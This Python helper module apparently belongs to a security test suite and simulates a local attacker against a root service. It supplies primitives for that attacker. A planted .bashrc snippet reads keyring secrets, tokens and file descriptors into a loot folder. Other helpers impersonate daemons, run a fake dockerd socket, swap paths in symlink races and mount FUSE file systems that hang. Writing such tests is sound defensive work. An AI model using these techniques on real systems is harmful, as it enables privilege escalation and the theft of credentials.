# SPDX-License-Identifier: GPL-3.0-or-later
"""What the attacker's programs share: names, sockets, races, loot, file systems that never answer."""

from __future__ import annotations

import array
import ctypes
import os
import shutil
import signal
import socket
import stat
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator

HOME = "/home/mallory"
LOOT = f"{HOME}/loot"
RUN = "/run/user/1001"
SHADOW = "/etc/shadow"
SUDOERS = "/etc/sudoers.d/canary"
SECRET = "/srv/open/secret"
"""Root's, and nothing that a login opens: who reads it was led there."""
MANY = 100_000

_libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD, EXCHANGE = -100, 2
_RENAMEAT2 = 316  # Of x86_64.
CREATE, MOVED_TO, ATTRIB, OPEN, DELETE = 0x100, 0x80, 0x4, 0x20, 0x200
ACCESS, MODIFY, CLOSE = 0x1, 0x2, 0x18

# What a start file runs to tell whose keys, ids and files it was given: plain sh.
TELL = r"""
(
f=/home/mallory/loot/ran-$$
{ echo "shell=$0"; grep -E '^(Uid|Gid|Groups|NoNewPrivs):' /proc/$$/status | sed 's/:\t*/=/'
echo "cgroup=$(cat /proc/$$/cgroup)"; echo "loginuid=$(cat /proc/$$/loginuid)"
echo "map=$(echo $(cat /proc/$$/uid_map))"
echo "limits=$(grep -c . /proc/$$/limits)"
for ring in @s @u @us; do keyctl search $ring user mlhost-canary 2>/dev/null; done | sort -u |
while read key; do echo "key=$(keyctl pipe $key)"; done
echo "variable=$ROOTS_TOKEN"; echo "open=$(cat <&9 2>/dev/null)"
for n in /proc/$$/fd/*; do echo "fd-${n##*/}=$(readlink $n)"; done
} > $f 2>/dev/null
) </dev/null
"""


def ready() -> None:
    """Let root come."""
    sys.stdout.write("READY\n")
    sys.stdout.flush()


def stay() -> None:
    """Live until the attack is over."""
    while True:
        time.sleep(60)


def put(path: str, text: str | bytes, mode: int = 0o644) -> str:
    """Write a file of ours, with the folders above it."""
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as file:
        file.write(text.encode() if isinstance(text, str) else text)
    os.chmod(path, mode)
    return path


def link(target: str, path: str) -> None:
    """Make a link, in the place of whatever is there."""
    os.makedirs(os.path.dirname(path), exist_ok=True)
    if os.path.lexists(path):
        os.unlink(path)
    os.symlink(target, path)


def rc(text: str, *names: str, limit: str = "ulimit -n 1000") -> None:
    """Write start files that set a limit, so that root measures what the shell makes of it."""
    os.makedirs(LOOT, exist_ok=True)
    for name in names or (".bashrc", ".profile"):
        put(f"{HOME}/{name}", f"{limit}\n{text}\n")


def sparse(path: str, size: int) -> None:
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as file:
        file.truncate(size)


# Names and processes.


def set_name(name: str | bytes) -> None:
    """Let this process bear a name (prctl PR_SET_NAME)."""
    _libc.prctl(15, name.encode() if isinstance(name, str) else name, 0, 0, 0)


def fork(work: Callable[[], object]) -> int:
    """Run something in a child that stays until it is killed."""
    pid = os.fork()
    if pid:
        return pid
    try:
        work()
        while True:
            time.sleep(60)
    finally:
        os._exit(0)


def be(name: str, *words: str, extra: dict[str, str] | None = None) -> subprocess.Popen[bytes]:
    """Run a process that bears a daemon's name and command line, and sleeps."""
    base = f"{HOME}/bin/{name}"
    os.makedirs(os.path.dirname(base), exist_ok=True)
    if not os.path.exists(base):
        shutil.copy("/bin/sleep" if not words else sys.executable, base)
    script = "import time; time.sleep(9999)"
    argv = [name, "9999"] if not words else [words[0], "-c", script, *words[1:]]
    environment = {"PATH": "/usr/bin:/bin", "HOME": HOME, **(extra or {})}
    child = subprocess.Popen(argv, executable=base, env=environment, start_new_session=True)
    time.sleep(0.3)
    return child


def own_argv(name: str, line: bytes) -> None:
    """Let this process bear a name and any bytes as its command line."""
    set_name(name)
    with open("/proc/self/stat") as file:
        fields = file.read().rpartition(")")[2].split()
    start, end = int(fields[45]), int(fields[46])
    content = line[: end - start].ljust(end - start, b"\0")
    ctypes.memmove(start, content, len(content))


def impostor(name: str, line: bytes, extra: dict[str, str] | None = None) -> None:
    """Start a Python that bears a name in comm, and a long command line of its own choice."""
    code = (
        "import sys; sys.path.insert(0, '/opt/hostile'); import tricks, time\n"
        f"tricks.own_argv({name!r}, {line!r})\ntime.sleep(9999)"
    )
    words = ["python3", "-c", code, "x" * max(len(line) + 10, 10)]
    environment = {"PATH": "/usr/bin:/bin", "HOME": HOME, **(extra or {})}
    subprocess.Popen(words, env=environment, start_new_session=True)
    time.sleep(1)


def fake_root(script: str) -> subprocess.Popen[bytes]:
    """Run a shell script as uid 0 of a user namespace of ours, with mounts of its own."""
    words = ["unshare", "-Urm", "--propagation", "private", "sh", "-c", script]
    return subprocess.Popen(words, env={**os.environ, "MLHOST_INNER": "1"}, start_new_session=True)


def unit(name: str, command: str, *lines: str) -> None:
    """Start a service of the user's own manager."""
    text = "\n".join(["[Service]", f"ExecStart={command}", *lines, ""])
    put(f"{HOME}/.config/systemd/user/{name}", text)
    own = {**os.environ, "XDG_RUNTIME_DIR": RUN}
    for words in (["daemon-reload"], ["start", name]):
        subprocess.run(["systemctl", "--user", *words], env=own, check=False)


# Sockets.


def listen(path: str, answer: Callable[[socket.socket, bytes], object]) -> None:
    """Answer at a Unix socket, each connection in a thread of its own."""
    os.makedirs(os.path.dirname(path), exist_ok=True)
    if os.path.lexists(path):
        os.unlink(path)
    server = socket.socket(socket.AF_UNIX)
    server.bind(path)
    server.listen(64)

    def talk(client: socket.socket) -> None:
        try:
            answer(client, client.recv(65536))
            client.close()
        except OSError:
            pass

    def serve() -> None:
        while True:
            client, _address = server.accept()
            threading.Thread(target=talk, args=(client,), daemon=True).start()

    threading.Thread(target=serve, daemon=True).start()


def http(body: bytes) -> bytes:
    return b"HTTP/1.0 200 OK\r\nContent-Type: application/json\r\n\r\n" + body


def dockerd(answer: Callable[[socket.socket, bytes], object], *words: str) -> None:
    """Pass for a rootless dockerd whose socket answers so."""
    path = f"{RUN}/docker.sock"
    listen(path, answer)
    own_argv("dockerd", b"\0".join([b"dockerd", *(word.encode() for word in words)]))


def always(body: bytes) -> Callable[[socket.socket, bytes], object]:
    return lambda client, _asked: client.sendall(http(body))


# Races.


def exchange(one: str, other: str) -> int:
    """Swap two names in one step (renameat2 with RENAME_EXCHANGE)."""
    flags = ctypes.c_uint(EXCHANGE)
    return int(_libc.syscall(_RENAMEAT2, AT_FDCWD, one.encode(), AT_FDCWD, other.encode(), flags))


def watch(
    *folders: str, mask: int = CREATE | MOVED_TO | ATTRIB | OPEN
) -> Iterator[tuple[str, int, str]]:
    """Yield what happens in folders (inotify): the folder, the kind, the name."""
    handle = _libc.inotify_init()
    at: dict[int, str] = {}
    for folder in folders:
        at[_libc.inotify_add_watch(handle, folder.encode(), mask)] = folder
    while True:
        content = os.read(handle, 65536)
        offset = 0
        while offset < len(content):
            number, kind, _cookie, length = struct.unpack_from("iIII", content, offset)
            name = content[offset + 16 : offset + 16 + length].rstrip(b"\0").decode("latin-1")
            offset += 16 + length
            yield at.get(number, ""), kind, name


def compiled(name: str) -> str:
    """Return the path of a program in C that the attacker brought along."""
    return f"/opt/hostile/bin/{name}"


# File systems that never answer.


def fuse(point: str, stops_after: int = 1, options: str = "nosuid") -> socket.socket:
    """Mount a FUSE file system of ours that answers so many requests, and then no more."""
    os.makedirs(point, exist_ok=True)
    ours, theirs = socket.socketpair(socket.AF_UNIX)
    own = {**os.environ, "_FUSE_COMMFD": str(theirs.fileno())}
    subprocess.run(
        ["fusermount3", "-o", options, point], env=own, pass_fds=[theirs.fileno()], check=True
    )
    _data, found, _flags, _address = ours.recvmsg(1, socket.CMSG_SPACE(4))
    device = array.array("i")
    device.frombytes(found[0][2][:4])
    threading.Thread(target=_serve_fuse, args=(device[0], stops_after), daemon=True).start()
    time.sleep(0.3)
    return ours


def _serve_fuse(device: int, count: int) -> None:
    """Answer INIT, and if more is to be answered all but READ: one file named ``file``."""
    while True:
        asked = os.read(device, 1 << 20)
        _length, kind, unique, node = struct.unpack_from("IIQQ", asked)
        answers = _INIT if count < 2 else {**_INIT, **_ANSWERS}
        if kind in answers:  # Who asked for anything else waits for ever.
            body = answers[kind](node, asked[40:].rstrip(b"\0"))
            os.write(device, struct.pack("IiQ", 16 + len(body), 0, unique) + body)


def _attributes(is_file: bool) -> bytes:
    mode = (stat.S_IFREG | 0o644) if is_file else (stat.S_IFDIR | 0o755)
    inode, size = (2, 8192) if is_file else (1, 0)
    return struct.pack(
        "6Q3I7I", inode, size, 16, 0, 0, 0, 0, 0, 0, mode, 1, os.getuid(), os.getgid(), 0, 4096, 0
    )


def _begin(_node: int, _name: bytes) -> bytes:
    return struct.pack("IIIIHHIIHHI7I", 7, 31, 65536, 0, 12, 12, 65536, 1, 1, 0, 0, *[0] * 7)


def _find(_node: int, name: bytes) -> bytes:
    is_file = name in (b"file", b".bashrc", b"containers.conf")
    return struct.pack("QQQQII", 2 if is_file else 3, 0, 9, 9, 0, 0) + _attributes(is_file)


def _look(node: int, _name: bytes) -> bytes:
    return struct.pack("QII", 9, 0, 0) + _attributes(node != 1)


def _open(_node: int, _name: bytes) -> bytes:
    return struct.pack("QII", 1, 0, 0)


def _end(_node: int, _name: bytes) -> bytes:
    return b""


_INIT = {26: _begin}
_ANSWERS = {1: _find, 3: _look, 14: _open, 27: _open, 18: _end, 25: _end, 29: _end}
"""By the number of a request: LOOKUP, GETATTR, OPEN, OPENDIR, RELEASE, FLUSH, RELEASEDIR."""


def nested(depth: int) -> bytes:
    return b"[" * depth + b"]" * depth


__all__ = [name for name in dir() if not name.startswith("_")]
_ = signal
